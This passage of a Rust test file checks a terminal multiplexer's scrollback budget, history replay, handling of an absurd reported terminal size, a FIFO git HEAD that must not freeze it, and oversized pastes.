    tw: &Tilework,
    reference: &mut vt100::Parser,
    what: &str,
    accept: impl Fn(Option<(usize, usize)>) -> bool,
) -> Option<(usize, usize)> {
    // The history views are replays on tilework's threads: however long
    // they take on a loaded machine, as long as those threads work.
    let pid = tw.workspace_pid();
    let mut work = common::progress::CpuWork::new(
        "tilework's history replays",
        Duration::from_secs(120),
        || common::progress::threads_cpu(Some(pid), "history-replay"),
    );
    let mut stall = common::progress::Stall::new(common::progress::STALL, work.progress());
    let mut last = String::from("no accepted view yet");
    loop {
        let done = tw.with_screen(|s| {
            let at = scroll_indicator(s);
            if !accept(at) {
                return None;
            }
            match view_mismatch(s, reference, at.map_or(0, |(o, _)| o)) {
                None => Some(at),
                Some(diff) => {
                    last = format!("at {at:?}: {diff}");
                    None
                }
            }
        });
        if let Some(at) = done {
            return at;
        }
        let still = stall.still_for(work.progress());
        assert!(
            still < common::progress::STALL,
            "{what}: the pane never matched the reference ({last}), and no replay worked for {still:?}; screen:\n{}",
            tw.screen_text()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_million_line_flood_keeps_every_line_on_screen_and_in_scrollback() {
    const LINES: u32 = 1_000_000;
    // 7.9 MB: all of it fits the default 8 MiB budget.
    let bytes = seq_bytes(LINES);
    assert!(bytes.len() < DEFAULT_BUDGET);
    // Computed while tilework floods.
    let reference = reference_parser(bytes, 40_000);
    let mut tw = Tilework::start(
        &["--keep-exited", "-c", &format!("seq 1 {LINES}")],
        ROWS,
        COLS,
    );
    tw.wait_for_while_programs_write("the flood to end", |s| s.contents().contains("exited: 0"));
    let mut reference = reference.join().unwrap();
    wait_view_matches(&tw, &mut reference, "the live screen", |at| at.is_none());
    // Scrollback with the keyboard: a few pages up, then the top of what
    // the history shows. Every view is compared at the offset it reports.
    tw.send("\x02[");
    tw.send("\x1b[5~\x1b[5~\x1b[5~");
    let (offset, _) = wait_view_matches(&tw, &mut reference, "pages up", |at| {
        at.is_some_and(|(o, l)| o > 0 && l > 0)
    })
    .unwrap();
    assert!(offset > 0);
    // `g`: the first line, a million lines back.
    tw.send("g");
    tw.wait_for("the first lines at the top", |s| {
        (0..ROWS - 3).all(|r| {
            let text = s.contents_between(r + 1, 1, r + 1, COLS - 1);
            text.trim_end() == (r + 1).to_string()
        })
    });
    tw.send("q");
    wait_view_matches(&tw, &mut reference, "the live screen again", |at| {
        at.is_none()
    });
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
}

#[test]
fn scrollback_holds_exactly_the_newest_lines_that_fit_the_budget() {
    const LINES: u32 = 100_000;
    // Small enough that one look at the history shows all of it. The lines
    // are long (72 bytes) on purpose: a history of very short lines is also
    // capped in rows, by the memory its replay may take, before the byte
    // budget is reached.
    let budget = 64 * 1024;
    let dir = TempDir::new("budget");
    let config = write_file(&dir, "config.toml", "scrollback = \"64KiB\"\n");
    let flood = format!("awk 'BEGIN {{ for (i = 1; i <= {LINES}; i++) printf \"%070d\\n\", i }}'");
    let mut bytes = Vec::new();
    for i in 1..=LINES {
        bytes.extend_from_slice(format!("{i:070}\r\n").as_bytes());
    }
    // What the ring keeps: the newest `budget` bytes, replayed from the
    // first whole line.
    let tail = &bytes[bytes.len() - budget..];
    let kept = tail[tail.iter().position(|&b| b == b'\n').unwrap() + 1..].to_vec();
    let first_kept =
        String::from_utf8_lossy(&kept[..kept.iter().position(|&b| b == b'\r').unwrap()])
            .into_owned();
    let reference = reference_parser(kept, 20_000);
    let mut tw = Tilework::start(
        &["--config", &config, "--keep-exited", "-c", &flood],
        ROWS,
        COLS,
    );
    tw.wait_for_while_programs_write("the flood to end", |s| s.contents().contains("exited: 0"));
    let mut reference = reference.join().unwrap();
    let expected_len = reference.screen().scrollback_len();
    wait_view_matches(&tw, &mut reference, "the live screen", |at| at.is_none());
    tw.send("\x02[");
    // Keys other than paging wait for the history to load.
    wait_view_matches(&tw, &mut reference, "the history opened", |at| {
        at.is_some_and(|(_, l)| l > 0)
    });
    tw.send("g");
    let (top, len) = wait_view_matches(&tw, &mut reference, "the top of the history", |at| {
        at.is_some_and(|(o, l)| o == l && l > 0)
    })
    .unwrap();
    assert_eq!(top, len);
    assert_eq!(
        len, expected_len,
        "the history holds a different number of lines than fit the budget"
    );
    assert_eq!(
        tw.row_text(1, 1, COLS - 1).trim_end(),
        first_kept,
        "the oldest line kept is not the first whole line in the budget"
    );
    tw.wait_for_text("older output dropped");
    tw.send("q");
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
}

#[test]
fn the_history_replay_holds_every_line_that_fits_the_budget_in_order() {
    // The same guarantee on the pipeline alone, all the way to the oldest
    // byte of a 1 MiB budget (about 100,000 lines): scroll back until the
    // history stops growing, then compare every page with a reference.
    // A narrow pane keeps the replayed rows cheap (32 bytes a cell).
    let (rows, cols) = (5u16, 12u16);
    let budget = 1024 * 1024;
    let mut bytes = Vec::new();
    let mut n = 0u32;
    while bytes.len() < budget * 3 / 2 {
        n += 1;
        bytes.extend_from_slice(format!("line {n}\r\n").as_bytes());
    }
    let mut pane = Pane::detached(PaneId(1), rows, cols, budget);
    feed(&mut pane, &bytes);
    assert_eq!(pane.history().bytes(), budget);
    let tail = &bytes[bytes.len() - budget..];
    let kept = &tail[tail.iter().position(|&b| b == b'\n').unwrap() + 1..];
    let mut reference = vt100::Parser::new(
        std::num::NonZeroU16::new(rows).unwrap(),
        std::num::NonZeroU16::new(cols).unwrap(),
        200_000,
    );
    reference.process(kept);
    let expected_len = reference.screen().scrollback_len();

    // One scroll far back goes through every window to the oldest line.
    let (tx, rx) = bounded(LOOP_EVENT_CAPACITY);
    scroll_back(&mut pane, isize::MAX / 2, &tx, &rx);
    let history = pane.history().window().unwrap();
    assert!(history.at_top && history.top_row() == 0, "not at the top");
    let (_, _, truncated) = pane.history().scroll_position().unwrap();
    assert!(
        truncated,
        "older output was dropped but the view does not say so"
    );
    // Walk down from the top, page by page, comparing every row with the
    // reference at the same distance from the top: the view crosses from
    // window to window on the way.
    let mut offset = expected_len;
    loop {
        reference.screen_mut().set_scrollback(offset);
        assert_eq!(
            pane.screen().contents(),
            reference.screen().contents(),
            "offset {offset} of {expected_len}"
        );
        if offset == 0 {
            assert!(!pane.history().is_scrolled(), "the live screen at the end");
            break;
        }
        let step = offset.min(usize::from(rows));
        scroll_back(&mut pane, -isize::try_from(step).unwrap(), &tx, &rx);
        offset -= step;
    }
}

/// A terminal claiming 65535x65535 (a broken one, or `stty rows 65535
/// cols 65535`) asked for a 206 GB frame buffer and ended the workspace
/// with every program in it; 10000x10000 took 9 GB and the keys stopped.
/// The workspace draws on at most 1024x512 of it, and is whole again
/// when the terminal says its real size.
#[test]
fn a_terminal_claiming_an_absurd_size_is_drawn_on_in_part_and_survives() {
    // The pane writes its size to a file ten times a second (the test's
    // screen stays 24x80, so what is drawn for a larger one is not legible).
    let dir = TempDir::new("absurd-size");
    let file = dir.path().join("size");
    let script = format!(
        "while :; do stty size > '{0}.new' && mv '{0}.new' '{0}'; sleep 0.1; done",
        file.display()
    );
    let mut tw = Tilework::start(&["-c", &script], ROWS, COLS);
    let pane_size = |want: &str| {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        loop {
            let now = std::fs::read_to_string(&file).unwrap_or_default();
            if now.trim() == want {
                return;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "the pane's size stayed {now:?}, not {want:?}"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    };
    // Inside the pane's border and above the status bar.
    let real = format!("{} {}", ROWS - 3, COLS - 2);
    pane_size(&real);
    tw.claim_size(u16::MAX, u16::MAX);
    pane_size("509 1022");
    tw.resize(ROWS, COLS);
    pane_size(&real);
    tw.wait_for("the frame at the real size", |s| {
        s.contents().contains("pane 1/1")
    });
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
}

/// Issue 28: a pane whose directory (named by its own output, OSC 7) has a
/// `.git/HEAD` that never answers a read, a FIFO, freezes nothing: names
/// are looked up off the loop, from regular files only. Keys still echo,
/// and a later directory's branch still reaches the status bar.
#[test]
fn a_git_head_that_never_answers_freezes_nothing() {
    let dir = TempDir::new("fifo-head");
    let stuck = dir.path().join("stuck");
    std::fs::create_dir_all(stuck.join(".git")).unwrap();
    nix::unistd::mkfifo(
        &stuck.join(".git/HEAD"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    let fine = dir.path().join("fine");
    std::fs::create_dir_all(fine.join(".git")).unwrap();
    std::fs::write(fine.join(".git/HEAD"), "ref: refs/heads/branch-42\n").unwrap();
    let config = dir.path().join("config.toml");
    std::fs::write(&config, "[status]\nleft = [\"tabs\"]\nright = [\"git\"]\n").unwrap();
    let mut tw = Tilework::start(&["--config", config.to_str().unwrap()], 12, 70);
    tw.wait_for_text("$ ");
    tw.type_line(&format!(
        "printf '\\033]7;file://host{}\\007'",
        stuck.display()
    ));
    // The tab is named after the idle shell's directory by the same look
    // that reads the branch: the look is over.
    tw.wait_for("the tab named after the directory", |s| {
        s.contents_between(11, 0, 11, 70).contains("1:stuck")
    });
    for i in 0..5 {
        tw.type_line(&format!("echo still-{}", i * 7));
        tw.wait_for_text(&format!("still-{}", i * 7));
    }
    tw.type_line(&format!(
        "printf '\\033]7;file://host{}\\007'",
        fine.display()
    ));
    tw.wait_for("the branch of the next directory", |s| {
        s.contents_between(11, 0, 11, 70).contains("branch-42")
    });
}

/// Bytes of a paste body: letters and digits, no newline (the program
/// reads in raw mode, where the terminal passes every byte as it is).
fn paste_body(len: usize, seed: u8) -> Vec<u8> {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
    (0..len)
        .map(|i| ALPHABET[(i * 7 + usize::from(seed) + i / 4099) % ALPHABET.len()])
        .collect()
}

/// Issue 28: a paste bigger than the input queue's 32 MiB budget, and a
/// second one right behind it, into a program that reads them: every byte
/// arrives, in order (they were cut to 32 MiB and the rest dropped).
#[test]
fn pastes_bigger_than_the_input_budget_reach_a_program_that_reads_whole() {
    let dir = TempDir::new("big-paste");
    let file = dir.path().join("received");
    let first = paste_body(34 << 20, 1);
    let second = paste_body(6 << 20, 2);
    let total = first.len() + second.len();
    let reader = format!(
        "stty raw -echo; head -c {total} > {}; exec sleep 1000",
        file.display()
    );
    let mut tw = Tilework::start(&["-c", &reader], ROWS, COLS);
    let pid = tw.workspace_pid();
    common::wait_until("the reader to start", || file.exists());
    let peak_before = common::proc_status_kib(pid, "VmHWM").unwrap();
    for body in [&first, &second] {
        let mut paste = b"\x1b[200~".to_vec();
        paste.extend_from_slice(body);
        paste.extend_from_slice(b"\x1b[201~");
        tw.send_guarded(&paste);
    }
    common::wait_until("every pasted byte", || {
        std::fs::metadata(&file).is_ok_and(|m| m.len() >= total as u64)
    });
    let received = std::fs::read(&file).unwrap();
    assert_eq!(received.len(), total);
    assert!(received[..first.len()] == first[..], "the first paste");
    assert!(received[first.len()..] == second[..], "the second paste");
    let grown = common::proc_status_kib(pid, "VmHWM").unwrap() - peak_before;
    eprintln!("tilework's peak grew {grown} KiB for pastes of {total} bytes");
    // crossterm holds a paste twice (its parse buffer, then the string it
    // hands over) and the pane's queue once, with nothing copied again:
    // bounded by the paste at hand, whatever came before it.
    let biggest = u64::try_from(first.len()).unwrap() / 1024;
    assert!(grown < 4 * biggest, "grew {grown} KiB for {biggest} KiB");
    tw.send("\x02Q");
    let _ = tw.wait_exit();
}
